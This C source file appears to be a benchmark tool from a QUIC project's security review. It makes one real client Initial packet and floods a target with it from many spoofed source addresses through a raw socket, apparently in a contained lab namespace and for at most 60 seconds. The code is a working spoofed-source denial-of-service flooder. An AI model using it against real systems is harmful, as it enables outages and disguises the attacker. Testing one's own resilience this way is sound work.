/*
 * bench/flood: the handshake flood of the security review, for real. Makes
 * one genuine client Initial with core/quic.c (zq_client_new + zq_write, any
 * certificate of the deployment: the Initial only carries a ClientHello)
 * and replays it at a given rate from many spoofed source addresses through
 * a raw socket (IP_HDRINCL). Run it inside the attacker's namespace only:
 * bench/flood.sh routes the spoofed range into a blackhole at the
 * Intermediate, so nothing leaves the namespaces.
 *
 *   flood --ca CA --cert CERT --key KEY --dst IP:PORT --src-net A.B.0.0
 *         --sources N --rate PPS --seconds S
 *
 * Stops by itself after S seconds (at most 60). Prints one line: packets
 * sent, the rate achieved, and send errors.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "quic.h"
#include "tls.h"
#include "wire.h"

static uint64_t now_ns(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (uint64_t)ts.tv_sec * 1000000000ULL + (uint64_t)ts.tv_nsec;
}

static uint16_t csum(const void *data, size_t len) {
  const uint8_t *p = data;
  uint32_t sum = 0;
  for (size_t i = 0; i + 1 < len; i += 2)
    sum += (uint32_t)(p[i] << 8 | p[i + 1]);
  if (len & 1)
    sum += (uint32_t)p[len - 1] << 8;
  while (sum >> 16)
    sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

static int usage(void) {
  fprintf(stderr, "usage: flood --ca CA --cert CERT --key KEY --dst IP:PORT "
                  "--src-net A.B.C.D --sources N --rate PPS --seconds S\n");
  return 2;
}

int main(int argc, char **argv) {
  const char *ca = NULL, *cert = NULL, *key = NULL, *dst = NULL, *net = NULL;
  unsigned long sources = 10000, rate = 1000, seconds = 10;
  for (int i = 1; i + 1 < argc; i += 2) {
    const char *o = argv[i], *v = argv[i + 1];
    if (!strcmp(o, "--ca"))
      ca = v;
    else if (!strcmp(o, "--cert"))
      cert = v;
    else if (!strcmp(o, "--key"))
      key = v;
    else if (!strcmp(o, "--dst"))
      dst = v;
    else if (!strcmp(o, "--src-net"))
      net = v;
    else if (!strcmp(o, "--sources"))
      sources = strtoul(v, NULL, 10);
    else if (!strcmp(o, "--rate"))
      rate = strtoul(v, NULL, 10);
    else if (!strcmp(o, "--seconds"))
      seconds = strtoul(v, NULL, 10);
    else
      return usage();
  }
  if (!ca || !cert || !key || !dst || !net || !sources || !rate ||
      seconds > 60)
    return usage();

  char host[64], err[256];
  const char *colon = strrchr(dst, ':');
  struct sockaddr_in to = {.sin_family = AF_INET};
  struct in_addr base;
  if (!colon || (size_t)(colon - dst) >= sizeof(host))
    return usage();
  memcpy(host, dst, (size_t)(colon - dst));
  host[colon - dst] = 0;
  to.sin_port = htons((uint16_t)atoi(colon + 1));
  if (inet_pton(AF_INET, host, &to.sin_addr) != 1 ||
      inet_pton(AF_INET, net, &base) != 1)
    return usage();

  /* One real Initial, as an agent would send it first. */
  struct zt_tls_creds *creds =
      zt_tls_creds_load(ca, cert, key, err, sizeof(err));
  if (!creds) {
    fprintf(stderr, "flood: %s\n", err);
    return 1;
  }
  struct zq_config cfg;
  static const struct zq_handlers none = {0};
  zq_config_defaults(&cfg);
  cfg.creds = creds;
  cfg.alpn = ZT_ALPN_OUTER;
  cfg.expect.roles = 1u << ZT_ROLE_INTERMEDIATE;
  struct sockaddr_in self = {.sin_family = AF_INET, .sin_addr = base};
  struct zq_conn *q = zq_client_new(&cfg, &none, NULL, (struct sockaddr *)&self,
                                    sizeof(self), (struct sockaddr *)&to,
                                    sizeof(to), now_ns(), err, sizeof(err));
  uint8_t pkt[20 + 8 + 1500];
  struct sockaddr_storage qto;
  socklen_t qtolen;
  ssize_t n = q ? zq_write(q, pkt + 28, 1500, &qto, &qtolen, now_ns()) : -1;
  if (n < 1200) {
    fprintf(stderr, "flood: no client Initial: %s\n", q ? "" : err);
    return 1;
  }

  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* implies IP_HDRINCL */
  if (fd < 0) {
    perror("flood: raw socket");
    return 1;
  }
  struct iphdr *ip = (struct iphdr *)pkt;
  struct udphdr *udp = (struct udphdr *)(pkt + 20);
  size_t total = 28 + (size_t)n;
  memset(pkt, 0, 28);
  ip->version = 4;
  ip->ihl = 5;
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  ip->tot_len = htons((uint16_t)total);
  ip->daddr = to.sin_addr.s_addr;
  udp->dest = to.sin_port;
  udp->len = htons((uint16_t)(8 + n));
  udp->check = 0; /* optional over IPv4: the receiver accepts 0 */

  /* Paced in 1 ms slices, so the rate holds over any second. */
  uint64_t start = now_ns(), end = start + seconds * 1000000000ULL;
  unsigned long sent = 0, errors = 0;
  while (now_ns() < end) {
    uint64_t due = (now_ns() - start) * rate / 1000000000ULL;
    while (sent < due) {
      uint32_t i = (uint32_t)(sent % sources);
      ip->saddr = htonl(ntohl(base.s_addr) + i);
      ip->id = htons((uint16_t)sent);
      ip->check = 0;
      ip->check = csum(ip, 20);
      udp->source = htons((uint16_t)(1024 + (i * 7919u) % 60000u));
      if (sendto(fd, pkt, total, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
        errors++;
      sent++;
    }
    usleep(1000);
  }
  double secs = (double)(now_ns() - start) / 1e9;
  printf("flood sent %lu spoofed Initials of %zd bytes from %lu sources in "
         "%.1f s (%.0f/s), %lu send errors\n",
         sent, n, sources, secs, (double)sent / secs, errors);
  close(fd);
  zq_free(q);
  zt_tls_creds_free(creds);
  return 0;
}
